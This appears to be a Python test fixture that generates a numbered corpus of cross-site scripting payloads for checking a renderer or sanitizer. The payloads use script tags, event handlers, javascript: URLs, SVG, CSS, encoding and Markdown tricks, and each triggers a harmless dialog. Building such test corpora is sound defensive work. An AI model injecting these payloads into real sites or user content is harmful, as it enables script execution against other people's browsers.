"""Cross-site scripting payloads we wrote for the proof in #9: tags, handlers, URLs, SVG, encodings,
Markdown tricks and attribute breaks. Each calls ``alert(N)`` (or the like) with its own number,
so a page-level hook can say which one ran."""

from __future__ import annotations

import base64
import html
from urllib.parse import quote

# "CALL" becomes alert(N); a template may use it several times.
TEMPLATES = [
    # script tags, split and disguised
    "<script>CALL</script>",
    "<SCRIPT>CALL</SCRIPT>",
    "<script >CALL</script >",
    "<script/x>CALL</script>",
    "<scr<script>ipt>CALL</scr</script>ipt>",
    "<script src=data:text/javascript,CALL></script>",
    "<<script>script>CALL<</script>/script>",
    "</textarea><script>CALL</script>",
    "</title><script>CALL</script>",
    "</style><script>CALL</script>",
    "<!--<script>-->CALL<!--</script>-->",
    "<![CDATA[<script>CALL</script>]]>",
    # event handlers
    "<img src=x onerror=CALL>",
    '<img src=x onerror="CALL">',
    "<img/src/onerror=CALL>",
    "<IMG SRC=x OnErRoR=CALL>",
    "<img src=x onerror\n=CALL>",
    "<img src onerror=CALL>",
    "<body onload=CALL>",
    "<svg onload=CALL>",
    "<svg/onload=CALL>",
    "<input autofocus onfocus=CALL>",
    "<select autofocus onfocus=CALL></select>",
    "<textarea autofocus onfocus=CALL></textarea>",
    "<details open ontoggle=CALL>",
    "<video><source onerror=CALL></video>",
    "<audio src=x onerror=CALL>",
    "<marquee onstart=CALL>x</marquee>",
    "<div onmouseover=CALL style=position:fixed;inset:0>hover</div>",
    "<p style=animation-name:x onanimationstart=CALL>x</p>",
    "<object data=javascript:CALL>",
    "<embed src=javascript:CALL>",
    "<iframe src=javascript:CALL></iframe>",
    '<iframe srcdoc="<script>parent.CALL</script>"></iframe>',
    "<form><button formaction=javascript:CALL>go</button></form>",
    "<isindex action=javascript:CALL type=image>",
    "<math><mtext><table><mglyph><style><img src=x onerror=CALL>",
    '<noscript><p title="</noscript><img src=x onerror=CALL>">',
    "<template><img src=x onerror=CALL></template>",
    '<meta http-equiv=refresh content="0;url=javascript:CALL">',
    "<base href=javascript:CALL//>",
    "<link rel=stylesheet href=javascript:CALL>",
    # javascript: and other URLs in links
    "<a href=javascript:CALL>click</a>",
    '<a href="JaVaScRiPt:CALL">click</a>',
    '<a href=" javascript:CALL">click</a>',
    '<a href="java&#x09;script:CALL">click</a>',
    '<a href="java\tscript:CALL">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;CALL">click</a>',
    '<a href="javascript&colon;CALL">click</a>',
    '<a href="vbscript:CALL">click</a>',
    '<a href="data:text/html,<script>CALL</script>">click</a>',
    '<a href="DATA64">click</a>',
    "<a href=x onclick=CALL>click</a>",
    '<a href="https://news.example" onmouseover="CALL">link</a>',
    # SVG
    "<svg><script>CALL</script></svg>",
    "<svg><a xlink:href=javascript:CALL><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=CALL attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=CALL>",
    "<svg><foreignObject><img src=x onerror=CALL></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='CALL'/></svg>#x\"/></svg>",
    "<svg><style>@import'javascript:CALL'</style></svg>",
    # attribute breaks and quotes
    '"><script>CALL</script>',
    "'><img src=x onerror=CALL>",
    '" onmouseover="CALL" x="',
    "' onfocus='CALL' autofocus='",
    '" autofocus onfocus=CALL x="',
    "`><img src=x onerror=CALL>",
    "</a><img src=x onerror=CALL>",
    '<div title="x" onclick="CALL">x</div>',
    '<img src="x` `<script>CALL</script>"` `>',
    '<img """><script>CALL</script>">',
    # style and CSS
    '<div style="background:url(javascript:CALL)">x</div>',
    '<div style="width:expression(CALL)">x</div>',
    "<style>*{background:url('javascript:CALL')}</style>",
    "<style>@import 'data:,*{x:expression(CALL)}';</style>",
    # encodings
    "&lt;script&gt;CALL&lt;/script&gt;",
    "&#60;script&#62;CALL&#60;/script&#62;",
    "%3Cscript%3ECALL%3C/script%3E",
    "\\u003cscript\\u003eCALL\\u003c/script\\u003e",
    "\\x3cscript\\x3eCALL\\x3c/script\\x3e",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(NUM)>",
    "<img src=x onerror=\\u0061lert(NUM)>",
    "<img src=x onerror=eval(atob('B64CALL'))>",
    "＜script＞CALL＜/script＞",
    "<scr\u0000ipt>CALL</scr\u0000ipt>".replace("\u0000", ""),
    "<script>CALL</script\u200b>",
    "\ufeff<script>CALL</script>",
    # Markdown link and image tricks
    "[click](javascript:CALL)",
    "[click](JAVASCRIPT:CALL)",
    "[click]( javascript:CALL )",
    "[click](javascript&#58;CALL)",
    "[click](&#x6A;avascript:CALL)",
    "[click](data:text/html;base64,B64HTML)",
    "[click](vbscript:CALL)",
    "![x](javascript:CALL)",
    '![x](x"onerror="CALL)',
    '![x" onerror="CALL](https://news.example/x.png)',
    '[x](https://news.example "title\\" onmouseover=\\"CALL")',
    "[a][ref]\n\n[ref]: javascript:CALL",
    '<https://news.example/"onmouseover="CALL>',
    "<javascript:CALL>",
    "[<img src=x onerror=CALL>](https://news.example)",
    "`<script>CALL</script>`",
    "```\n</code></pre><script>CALL</script>\n```",
    "**<img src=x onerror=CALL>**",
    "> <script>CALL</script>",
    "* <svg onload=CALL>",
    '[click](https://news.example/"><script>CALL</script>)',
    "[click](//javascript:CALL)",
    "[click](java\nscript:CALL)",
    # template and framework injections (nothing should evaluate them)
    "{{constructor.constructor('CALL')()}}",
    "${CALL}",
    "<div ng-app>{{constructor.constructor('CALL')()}}</div>",
    "<img src=x onerror=\"window['al'+'ert'](NUM)\">",
    "<img src=x onerror=top[/al/.source+/ert/.source](NUM)>",
    "<img src=x onerror=\"(0,eval)('CALL')\">",
    "<img src=x onerror=\"setTimeout('CALL')\">",
    "<img src=x onerror=\"Function('CALL')()\">",
    "<img src=x onerror=\"import('data:text/javascript,CALL')\">",
    "<img src=x onerror=\"location='javascript:CALL'\">",
]


def _call(number: int, flavour: int) -> str:
    return ("alert", "confirm", "prompt", "print")[flavour % 4] + f"({number})"


def corpus() -> list[str]:
    """At least 150 distinct payloads, each marked with its number."""
    payloads = []
    for template in TEMPLATES:
        for flavour in (0, 1):  # each template twice: alert and a different dialog function
            number = len(payloads) + 1
            call = _call(number, flavour + (1 if "srcdoc" in template else 0))
            text = template.replace("CALL", call).replace("NUM", str(number))
            js_html = f"<script>{call}</script>"
            text = text.replace(
                "DATA64", "data:text/html;base64," + base64.b64encode(js_html.encode()).decode()
            )
            text = text.replace("B64HTML", base64.b64encode(js_html.encode()).decode())
            text = text.replace("B64CALL", base64.b64encode(call.encode()).decode())
            payloads.append(text)
    # Escaped and URL-encoded copies of a few, as a careless decoder might undo them.
    for text in payloads[:12]:
        payloads.append(html.escape(text))
        payloads.append(quote(text))
    return list(dict.fromkeys(payloads))


def short(payload: str, limit: int) -> str:
    """A payload cut to fit a field (names are short), keeping its marker call intact if it can."""
    return payload if len(payload) <= limit else payload[: limit - 1] + ">"
